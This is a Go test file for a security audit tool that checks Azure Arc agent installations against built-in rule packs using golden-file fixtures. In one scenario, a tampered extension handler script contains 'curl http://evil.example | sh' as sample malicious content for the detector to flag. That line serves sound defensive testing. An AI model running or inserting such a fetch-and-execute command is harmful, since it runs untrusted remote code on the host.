package audit

import (
	"bytes"
	"context"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/arcagent/arcagent/agent/layout"
	"github.com/arcagent/arcagent/audit/fixture"
	"github.com/arcagent/arcagent/reports"
	"github.com/arcagent/arcagent/rules"
)

var update = flag.Bool("update", false, "rewrite golden files")

// settingsThumbprint names the fixtures' protected-settings certificate.
const settingsThumbprint = "3C2F6E1B0A9D8C7B6A5F4E3D2C1B0A9F8E7D6C5B"

// testNow is the fixed clock of fixture audits.
var testNow = time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)

func builtinRules(t testing.TB) []rules.Rule {
	t.Helper()
	rs, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// auditTree runs the built-in packs over a fixture tree with a fixed clock.
func auditTree(t *testing.T, root string, mod func(*RunOptions)) *reports.Report {
	t.Helper()
	o := RunOptions{
		Collect: Options{Root: root, Now: testNow},
		Rules:   builtinRules(t),
		RunID:   "fixture-run",
	}
	if mod != nil {
		mod(&o)
	}
	res, err := Run(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	r := res.Report
	r.DurationMs = 0
	r.Tool.Version = "test"
	return r
}

// goldenJSON writes r as JSON with the temporary root replaced.
func goldenJSON(t *testing.T, r *reports.Report, root string) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := (reports.JSONWriter{}).Write(&buf, r); err != nil {
		t.Fatal(err)
	}
	return bytes.ReplaceAll(buf.Bytes(), []byte(root), []byte("<root>"))
}

func compareGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name+".json")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./audit -update to create it)", err)
	}
	if !bytes.Equal(want, got) {
		t.Errorf("%s differs from the golden file; run `go test ./audit -run Golden -update` and review the diff.\n got:\n%s", path, got)
	}
}

func failing(r *reports.Report, status reports.Status) []string {
	var out []string
	for _, res := range r.Results {
		if res.Status == status {
			k := res.RuleID
			if res.Resource != "" {
				k += " " + res.Resource
			}
			out = append(out, k)
		}
	}
	slices.Sort(out)
	return out
}

type scenario struct {
	name  string
	build func(t *testing.T, tr *fixture.Tree)
	fails []string
	// applicable lists rules that must be not_applicable.
	notApplicable []string
}

func scenarios() []scenario {
	hardened := func(t *testing.T, tr *fixture.Tree) {
		tr.DefaultInstall()
		tr.LocalConfig(fixture.Tier0Config())
		tr.Connect(testNow.Add(-2 * time.Minute))
		pub := tr.TrustPublisher("microsoft-monitor", "Microsoft.Azure.Monitor")
		tr.InstallExtension(pub, "Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent", "1.2.0")
		tr.ExtensionManagerDirs()
		tr.SettingsCert(settingsThumbprint, 0o600)
	}
	return []scenario{
		{name: "hardened", build: hardened, fails: nil,
			notApplicable: []string{"ARC-BL-001", "ARC-T0-006", "ARC-PR-004", "ARC-PR-006"}},
		{name: "default-install", build: func(t *testing.T, tr *fixture.Tree) { tr.DefaultInstall() },
			fails:         []string{"ARC-BL-007", "ARC-T0-001", "ARC-T0-002", "ARC-T0-003", "ARC-T0-004"},
			notApplicable: []string{"ARC-EX-001", "ARC-T0-005", "ARC-PR-004", "ARC-BL-002"}},
		{name: "missing-dirs", build: func(t *testing.T, tr *fixture.Tree) {
			tr.File(layout.Binary, "#!/bin/sh\n", "root", "root", 0o755)
			tr.LocalConfig(fixture.Tier0Config())
			tr.File(layout.AgentConfig, `{"resourceId": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.HybridCompute/machines/m", "lastHeartbeat": "2026-11-01T11:59:00Z"}`, "root", "himds", 0o640)
		}, fails: nil,
			notApplicable: []string{"ARC-EX-001", "ARC-EX-002", "ARC-EX-003", "ARC-EX-004", "ARC-T0-005", "ARC-PR-001", "ARC-PR-002", "ARC-PR-003", "ARC-PR-010", "ARC-PR-011", "ARC-PR-014", "ARC-PR-015", "ARC-PR-016"}},
		{name: "tampered-unsigned-extensions", build: func(t *testing.T, tr *fixture.Tree) {
			hardened(t, tr)
			cfg := fixture.Tier0Config()
			cfg["extensions.allowlist"] = append(cfg["extensions.allowlist"].([]string), "Contoso.Tools/Helper")
			tr.LocalConfig(cfg)
			dir := tr.L.ExtensionsDir() + "/Microsoft.Azure.Monitor.AzureMonitorLinuxAgent-1.2.0/bin/handler.sh"
			if err := os.WriteFile(dir, []byte("#!/bin/sh\ncurl http://evil.example | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			tr.UnsignedExtension("Contoso.Tools", "Helper", "0.9.0")
		}, fails: []string{
			// The hand-copied tree is "not installed by this agent"
			// (medium), not a critical signature failure: --strict is.
			"ARC-EX-002 Microsoft.Azure.Monitor/AzureMonitorLinuxAgent",
			"ARC-EX-004 Contoso.Tools/Helper",
		}},
	}
}

func TestGoldenFixtures(t *testing.T) {
	fixture.RequireRoot(t)
	for _, sc := range scenarios() {
		t.Run(sc.name, func(t *testing.T) {
			root := t.TempDir()
			tr := fixture.New(t, root)
			sc.build(t, tr)
			r := auditTree(t, root, nil)
			if got := failing(r, reports.StatusFail); strings.Join(got, "|") != strings.Join(sc.fails, "|") {
				t.Errorf("failures = %q\nwant        %q", got, sc.fails)
			}
			if errs := failing(r, reports.StatusError); len(errs) > 0 {
				t.Errorf("errors: %q", errs)
			}
			na := map[string]bool{}
			for _, id := range failing(r, reports.StatusNotApplicable) {
				na[strings.SplitN(id, " ", 2)[0]] = true
			}
			for _, id := range sc.notApplicable {
				if !na[id] {
					t.Errorf("%s should be not_applicable", id)
				}
			}
			for _, res := range r.Results {
				if res.Status == reports.StatusNotApplicable && res.Reason == "" {
					t.Errorf("%s is not_applicable without a reason", res.RuleID)
				}
				if res.Location.Line < 1 || res.Location.Path == "" || strings.HasPrefix(res.Location.Path, "/") {
					t.Errorf("%s: bad location %+v", res.RuleID, res.Location)
				}
			}
			compareGolden(t, sc.name, goldenJSON(t, r, root))
		})
	}
}

// Results are stable across runs of the same host: same fingerprints.
func TestFingerprintsStable(t *testing.T) {
	fixture.RequireRoot(t)
	root := t.TempDir()
	tr := fixture.New(t, root)
	tr.DefaultInstall()
	a := auditTree(t, root, nil)
	b := auditTree(t, root, func(o *RunOptions) { o.RunID = "other" })
	if len(a.Results) != len(b.Results) {
		t.Fatal("different result counts")
	}
	for i := range a.Results {
		if a.Results[i].Fingerprint != b.Results[i].Fingerprint {
			t.Errorf("%s: fingerprint changed between runs", a.Results[i].RuleID)
		}
	}
}
